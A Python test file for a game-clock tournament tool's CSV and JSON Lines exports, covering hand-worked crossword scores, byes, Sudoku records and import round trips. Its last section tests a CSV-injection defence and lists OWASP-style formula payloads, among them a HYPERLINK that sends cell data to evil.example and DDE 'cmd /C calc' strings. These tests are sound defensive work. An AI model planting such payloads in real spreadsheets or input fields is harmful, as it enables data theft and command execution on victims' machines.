"""CSV (a line per game and per bye, hand-worked values: XW-3 score and penalty, XW-8 spread, XW-9
bye) and JSON Lines (everything the clocks recorded: exported, then read back by `gameclock import`
into a fresh database with nothing lost)."""
from __future__ import annotations

import csv
import io
import json
import re

from exportkit import crossword_event_3
from kit import xw

from bench.dock import SERIAL, sample_records
from gameclock.cli import main
from gameclock.dock.sign import key_id, sign_result
from gameclock.organiser.exports import csv as csv_export
from gameclock.organiser.exports import divisions
from gameclock.organiser.pairings import load_pairings
from gameclock.organiser.standings.games import games_from_records
from gameclock.organiser.store import Store

KEY = bytes(range(1, 33))


def event_3_csv() -> bytes:
    records, byes = crossword_event_3()
    return csv_export.export(divisions(games_from_records(records), byes))


def test_csv_rows_hand_worked():
    data = event_3_csv()
    assert data.startswith(b"\xef\xbb\xbf")               # UTF-8 with a BOM: Excel reads Thai right
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert list(rows[0]) == ["division", "round", "table", "player1", "score1", "player2", "score2", "winner",
                             "reason", "spread1", "spread2", "penalty1", "penalty2", "points1", "points2",
                             "first", "game", "level", "stage", "id", "amended", "hand"]
    # by round, games by table, then the round's bye
    assert [(r["round"], r["table"], r["player1"], r["player2"]) for r in rows] == [
        ("1", "1", "Anan", "Boon"), ("1", "2", "Somchai", "Chai"), ("1", "", "Malee", ""),
        ("2", "14", "Somchai", "Malee"), ("2", "15", "Chai", "Anan"), ("2", "", "Boon", "")]
    # XW-3: Somchai entered 412, 3:18 over = 40 off: 372 v 388; Malee wins by 16 (XW-8, under the cap)
    assert rows[3] == {"division": "3", "round": "2", "table": "14", "player1": "Somchai", "score1": "372",
                       "player2": "Malee", "score2": "388", "winner": "Malee", "reason": "score",
                       "spread1": "-16", "spread2": "16", "penalty1": "40", "penalty2": "0",
                       "points1": "0", "points2": "2", "first": "1", "game": "1", "level": "secondary",
                       "stage": "qualifying", "id": "C1-000001", "amended": "", "hand": ""}
    # XW-9: a bye is a win worth +100 (secondary); XW-6: 2 game points
    assert rows[2] == {"division": "3", "round": "1", "table": "", "player1": "Malee", "score1": "",
                       "player2": "", "score2": "", "winner": "Malee", "reason": "bye", "spread1": "100",
                       "spread2": "", "penalty1": "", "penalty2": "", "points1": "2", "points2": "",
                       "first": "", "game": "", "level": "secondary", "stage": "", "id": "", "amended": "", "hand": ""}
    assert (rows[4]["winner"], rows[4]["spread1"], rows[4]["first"]) == ("draw", "0", "1")
    assert (rows[1]["winner"], rows[1]["first"]) == ("Chai", "2")


def test_gameclock_pairings_reads_the_csv_back(tmp_path):
    path = tmp_path / "event3.csv"
    path.write_bytes(event_3_csv())
    pairs = load_pairings(path, round=2)
    # issue 15: the export's level and stage columns are a pairing file's set-up columns: event 3 is a
    # secondary-school division and round 2 a qualifying game (rows[3] above), so they come back too
    setup = {"level": "secondary", "stage": "qualifying"}
    assert pairs == [{"event": "3", "round": 2, "table": 14, "players": {"left": "Somchai", "right": "Malee"}, **setup},
                     {"event": "3", "round": 2, "table": 15, "players": {"left": "Chai", "right": "Anan"}, **setup}]
    assert [(b["round"], b["player"]) for b in pairs.byes] == [(2, "Boon")]


def signed_store(path, records) -> None:
    with Store(path) as s:
        s.add_key(SERIAL, KEY)
        for r in records:
            assert s.put_result(r, sign_result(KEY, r), key_id(KEY), "serial:/dev/ttyACM0") == "stored"


def test_jsonl_round_trips_through_gameclock_import(tmp_path, capsys):
    # real records (record_from_log of synthesized games: every move's duration, Thai names), signed
    records = sample_records(6)
    records[5]["event"] = "other-event"                      # before signing: a genuine other event
    src, dst = tmp_path / "a.db", tmp_path / "b.db"
    signed_store(src, records)
    out = tmp_path / "all.jsonl"
    assert main(["export", "jsonl", "--db", str(src), "--out", str(out)]) == 0
    assert capsys.readouterr().err == f"wrote {out}: 6 results, {out.stat().st_size} bytes\n"
    with Store(src) as s:
        buf = io.StringIO()
        s.export_jsonl(buf)
        stored_src = s.results()
    assert out.read_text(encoding="utf-8") == buf.getvalue()  # Store.export_jsonl's own lines
    assert main(["import", str(out), "--db", str(dst), "--keys-from", str(src)]) == 0
    assert capsys.readouterr().out == "6 stored, 0 duplicates, 0 conflicts, 0 refused\n"
    with Store(dst) as s:
        assert s.results() == stored_src                     # every record, whole
        assert s.result(records[0]["id"]) == {**json.loads(out.read_text().splitlines()[0])}
    # --event: that event's lines only, the same shape; stdout by default
    assert main(["export", "jsonl", "--db", str(src), "--event", "other-event"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(x)["id"] for x in lines] == [records[5]["id"]]
    assert json.loads(lines[0]) == json.loads(out.read_text().splitlines()[5])


def test_csv_sudoku_record_without_winner_or_game_points():
    # A Sudoku record carries no winner and no game points (outcome null, scores.game_points null): its two
    # competitors are not opponents. The line keeps the final scores (SU-2 + SU-3: Dao 100 + 9 bonus = 109,
    # Eak 80) and leaves winner and points empty.
    from kit import su

    r = su(1, "su", 1, 4, "Dao", "Eak", 100, 80, left_bonus=9)
    r = dict(r, outcome=None, reason=None, scores=dict(r["scores"], game_points=None))
    data = csv_export.export(divisions(games_from_records([r])))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [(x["division"], x["round"], x["table"], x["player1"], x["score1"], x["player2"], x["score2"],
             x["winner"], x["reason"], x["points1"], x["points2"], x["id"]) for x in rows] == [
        ("su", "1", "4", "Dao", "109", "Eak", "80", "", "", "", "", "clock5-000001")]


# CSV injection (OWASP "CSV Injection"; issue 24, B7): a spreadsheet runs a cell that begins with =, +,
# -, @, a tab or a carriage return as a formula. Players' names are anybody's text (a clock's pairing,
# an uploaded list): these four are OWASP's own kinds (a link sending the sheet away, DDE commands).
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_csv() -> bytes:
    # table 1: 300 v 330, the right wins by 30 (XW-8, under the cap): spread1 -30, spread2 30
    # table 2: 400 v 350: spread1 50, spread2 -50
    records = [xw(1, "3", 1, 1, HOSTILE[0], HOSTILE[1], 300, 330), xw(2, "3", 1, 2, HOSTILE[2], HOSTILE[3], 400, 350)]
    return csv_export.export(divisions(games_from_records(records)))


def test_csv_names_a_spreadsheet_would_run_are_written_as_text_and_stay_readable():
    text = hostile_csv().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    # OWASP's advice: a single quote before the cell (the spreadsheet shows it as text), the name after it
    assert [(r["player1"], r["player2"]) for r in rows] == [("'" + HOSTILE[0], "'" + HOSTILE[1]),
                                                            ("'" + HOSTILE[2], "'" + HOSTILE[3])]
    assert (rows[0]["winner"], rows[1]["winner"]) == ("'" + HOSTILE[1], "'" + HOSTILE[2])
    # no cell begins with a formula's character unless it is a plain number (a negative spread)
    for r in csv.reader(io.StringIO(text)):
        for cell in r:
            assert not cell.startswith(TRIGGERS) or re.fullmatch(r"-[0-9]+", cell), cell
    # ... and the cell quoted (OWASP), its own quotes doubled: a `,` or `;` in it starts no new cell
    line1 = text.splitlines()[1]
    assert line1.startswith('3,1,1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",300,')
    # a negative spread stays a number a spreadsheet sums: written as it is, unquoted
    assert ",-30,30," in line1 and ",50,-50," in text.splitlines()[2]
    assert (rows[0]["spread1"], rows[1]["spread2"]) == ("-30", "-50")


def test_gameclock_pairings_reads_neutralised_names_back_as_they_were(tmp_path):
    path = tmp_path / "hostile.csv"
    path.write_bytes(hostile_csv())
    pairs = load_pairings(path, round=1)
    assert [p["players"] for p in pairs] == [{"left": HOSTILE[0], "right": HOSTILE[1]},
                                             {"left": HOSTILE[2], "right": HOSTILE[3]}]
